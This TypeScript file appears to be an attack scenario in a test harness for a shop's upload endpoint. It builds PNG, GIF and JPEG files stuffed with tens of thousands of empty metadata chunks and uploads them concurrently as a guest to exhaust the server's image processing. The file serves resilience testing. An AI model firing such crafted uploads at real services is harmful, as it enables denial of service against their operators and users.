import { multipartBody } from '#lib/http/multipart-body.ts';
import { pngChunk } from '../../tests/support/files/pictures.ts';
import { ATTACKER, type Attack, repeat, tally, visitorFrom } from '../attacker.ts';

const SIZES = [480_000, 2_400_000];
const UPLOADS = 24;
const AT_ONCE = 4;

/**
 * One guest uploads avatars with tens of thousands of tiny parts. Every other part is metadata that the shop
 * removes.
 */
export const attack: Attack = {
  async prepare(url) {
    const { visitor, leave } = visitorFrom(url, ATTACKER);
    await visitor.post('/auth', { intent: 'guest' });
    const pictures = SIZES.flatMap((size) => [png(size), gif(size), jpeg(size)]);
    const bodies = await Promise.all(
      pictures.map(async ({ bytes, type }) => {
        const { body, type: contentType } = multipartBody(new Uint8Array(bytes), type);
        return { contentType, body: new Uint8Array(await body.arrayBuffer()) };
      }),
    );
    return async ({ until }) => {
      const statuses: (string | number)[] = [];
      const timer = setTimeout(leave, until - performance.now());
      await repeat({ count: UPLOADS, width: AT_ONCE, until }, async (n) => {
        const sent = bodies[n % bodies.length];
        const reply = await visitor
          .send('POST', '/uploads/avatars?name=parts.png', {
            headers: { 'content-type': sent?.contentType ?? '', 'x-goog-upload-protocol': 'multipart' },
            body: sent?.body ?? '',
          })
          .catch(() => ({ status: 'unanswered' }));
        statuses.push(reply.status);
      });
      clearTimeout(timer);
      leave();
      return `${statuses.length} uploads: ${tally(statuses)}`;
    };
  },
};

type Picture = { type: string; bytes: Buffer };

function png(size: number): Picture {
  const header = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
  const pair = Buffer.concat([pngChunk('pHYs', Buffer.alloc(0)), pngChunk('tEXt', Buffer.alloc(0))]);
  const pixel = Buffer.from('789c6360000000020001', 'hex');
  return {
    type: 'image/png',
    bytes: Buffer.concat([
      Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
      pngChunk('IHDR', header),
      ...times(pair, size),
      pngChunk('IDAT', pixel),
      pngChunk('IEND', Buffer.alloc(0)),
    ]),
  };
}

function gif(size: number): Picture {
  const start = Buffer.from('474946383961010001008000000000 00ffffff'.replaceAll(' ', ''), 'hex');
  const pair = Buffer.from('21fe00' + '21f9040000000000', 'hex');
  const end = Buffer.from('2c00000000010001000002024401003b', 'hex');
  return { type: 'image/gif', bytes: Buffer.concat([start, ...times(pair, size), end]) };
}

/** Returns a JPEG of comments and empty restart intervals, without a picture. */
function jpeg(size: number): Picture {
  const pair = Buffer.from('fffe0002' + 'ffdd00040000', 'hex');
  return {
    type: 'image/jpeg',
    bytes: Buffer.concat([Buffer.from('ffd8', 'hex'), ...times(pair, size), Buffer.from('ffd9', 'hex')]),
  };
}

function times(pair: Buffer, size: number): Buffer[] {
  return Array.from({ length: Math.floor(size / pair.length) }, () => pair);
}
